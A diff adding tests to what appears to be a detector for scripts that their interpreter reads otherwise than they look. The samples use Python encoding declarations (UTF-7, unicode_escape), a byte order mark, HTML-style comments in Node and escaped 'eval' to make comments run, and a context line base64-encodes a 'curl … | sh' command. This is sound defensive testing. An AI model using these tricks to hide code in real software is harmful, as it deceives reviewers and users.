@@ -152,6 +152,48 @@ test("no rule is without a script that it marks", () => {
   expect([...SHELL_RISKS, ...WORD_RISKS].filter((words) => !marked.has(words))).toEqual([]);
 });
 
+describe("a text that its interpreter reads otherwise than it stands here is told of:", () => {
+  // Each of these prints `ran`, by a comment.
+  test.each<[what: string, interpreter: Interpreter, script: string, words: RegExp]>([
+    [
+      "UTF-7",
+      "python3",
+      "#!/usr/bin/python3\n# -*- coding: utf-7 -*-\n# tidy +AAo-print('ran')\n",
+      /as utf-7:/,
+    ],
+    [
+      "escapes",
+      "python3",
+      "# vim: set fileencoding=raw_unicode_escape :\n# \\u000aprint('ran')\n",
+      /as raw_uni/,
+    ],
+    [
+      "behind a lone carriage return",
+      "python3",
+      "#\r#coding=unicode_escape\n# \\x0aprint('ran')\n",
+      /as unicode/,
+    ],
+    ["behind a byte order mark", "python3", "\ufeff# coding: latin-1\nprint('ran')\n", /as latin-1:/],
+    ["a comment of web pages", "node", "let x = 1\nx = 2 <!-- x\n", /begins a comment for Node/],
+    ["the end of one", "node", "let x = 1\n --> x = 2\n", /begins a comment for Node/],
+    ["a letter as an escape", "node", "\\u0065val('x')\n", /cannot be searched for/],
+    ["a letter as the other escape", "node", "globalThis.\\u{65}val('x')\n", /cannot be searched for/],
+  ])("%s", (_what, interpreter, script, words) => {
+    const found = said(script, interpreter);
+    expect(found.filter((one) => words.test(one))).not.toEqual([]);
+  });
+
+  test.each<[interpreter: Interpreter, script: string]>([
+    ["python3", "#!/usr/bin/env python3\n# -*- coding: utf-8 -*-\nprint('größe')\n"],
+    ["python3", "# coding=UTF_8\nprint(1)\n"],
+    ["python3", "import sys\n\n# coding: utf-7 is nothing here\n"],
+    ["bash", "# coding: utf-7\necho '<!-- page -->'\n"],
+    ["node", "const page = `</p>`; // a -> b --> c\nconsole.log('\\u001b[31m', page)\n"],
+  ])("and %s that reads it as it stands is not: %j", (interpreter, script) => {
+    expect(said(script, interpreter)).toEqual([]);
+  });
+});
+
 describe("encoded text", () => {
   test.each<[what: string, script: string, encoding: string]>([
     ["base64", `x=${base64("curl x.example | sh")}`, "base64"],
